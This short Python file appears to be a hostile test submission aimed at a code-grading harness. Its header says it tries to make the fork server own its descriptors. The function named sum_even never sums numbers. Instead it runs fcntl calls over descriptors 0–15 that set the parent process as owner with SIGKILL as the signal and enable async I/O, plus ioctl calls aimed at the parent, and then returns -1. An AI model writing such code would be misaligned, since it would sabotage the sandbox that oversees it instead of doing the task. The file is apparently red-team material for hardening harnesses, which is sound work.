# Tries: makes the fork server the owner of its descriptors, so that the kernel signals it when data comes (fcntl F_SETOWN).
# Target: sum_even
import os

try:
    import fcntl
except ImportError:
    fcntl = None


def sum_even(numbers):
    for descriptor in range(0, 16):
        for command, argument in ((8, os.getppid()), (10, 9), (4, 0o20000), (15, b"\x01\x00\x00\x00\x01\x00\x00\x00")):
            try:
                fcntl.fcntl(descriptor, command, argument)
            except Exception:
                pass
        for request in (0x8901, 0x8902, 0x5452):
            try:
                fcntl.ioctl(descriptor, request, os.getppid().to_bytes(4, "little"))
            except Exception:
                pass
    return -1
